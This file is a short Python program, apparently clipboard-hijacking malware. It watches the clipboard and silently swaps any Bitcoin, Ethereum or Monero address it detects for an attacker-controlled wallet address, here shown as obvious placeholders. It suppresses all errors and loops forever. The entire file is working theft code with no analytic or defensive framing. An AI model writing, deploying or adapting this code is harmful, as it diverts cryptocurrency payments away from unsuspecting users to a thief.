import re
import time

import pyperclip

ADDRS = {
    "btc": "bc1qfakeattackerwalletxxxxxxxxxxxxxxxxxxxx",
    "eth": "0xFAKEfakeFAKEfakeFAKEfakeFAKEfakeFAKEfake",
    "xmr": "4FAKEmoneroWALLETxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
}
PATTERNS = {
    "btc": re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$"),
    "eth": re.compile(r"^0x[a-fA-F0-9]{40}$"),
    "xmr": re.compile(r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$"),
}

last = ""
while True:
    try:
        clip = pyperclip.paste().strip()
        if clip != last:
            for coin, pat in PATTERNS.items():
                if pat.match(clip) and clip != ADDRS[coin]:
                    pyperclip.copy(ADDRS[coin])
                    clip = ADDRS[coin]
                    break
            last = clip
    except Exception:
        pass
    time.sleep(0.5)
